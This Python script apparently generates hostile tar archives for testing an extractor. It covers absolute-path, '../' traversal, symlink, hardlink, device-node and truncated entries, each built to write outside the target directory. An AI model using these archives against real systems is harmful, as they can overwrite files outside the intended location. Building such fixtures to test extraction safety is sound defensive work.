#!/usr/bin/python3
"""A tar archive that tries to leave its target: hostile_archive.py KIND FILE VICTIM-DIRECTORY."""
import io
import sys
import tarfile

kind, path, victim = sys.argv[1:]


def entry(tar, name, data=None, **fields):
    about = tarfile.TarInfo(name)
    for key, value in fields.items():
        setattr(about, key, value)
    about.size = len(data) if data is not None else 0
    tar.addfile(about, io.BytesIO(data) if data is not None else None)


with tarfile.open(path, "w", format=tarfile.GNU_FORMAT) as archive:
    entry(archive, "dir", type=tarfile.DIRTYPE, mode=0o755)
    if kind == "absolute":
        entry(archive, victim + "/file", b"evil\n")
    elif kind == "parent":
        entry(archive, "dir/../../../outside", b"evil\n")
    elif kind == "link":
        entry(archive, "dir/way", type=tarfile.SYMTYPE, linkname=victim)
        entry(archive, "dir/way/file", b"evil\n")
    elif kind == "hardlink":
        entry(archive, "dir/way", type=tarfile.LNKTYPE, linkname="../victim/file")
        entry(archive, "dir/way", b"evil\n")
    elif kind == "device":
        entry(archive, "dir/null", type=tarfile.CHRTYPE, devmajor=1, devminor=3)
    elif kind == "truncated":
        entry(archive, "dir/file", b"x" * 100000)
if kind == "truncated":
    with open(path, "r+b") as file:
        file.truncate(5000)
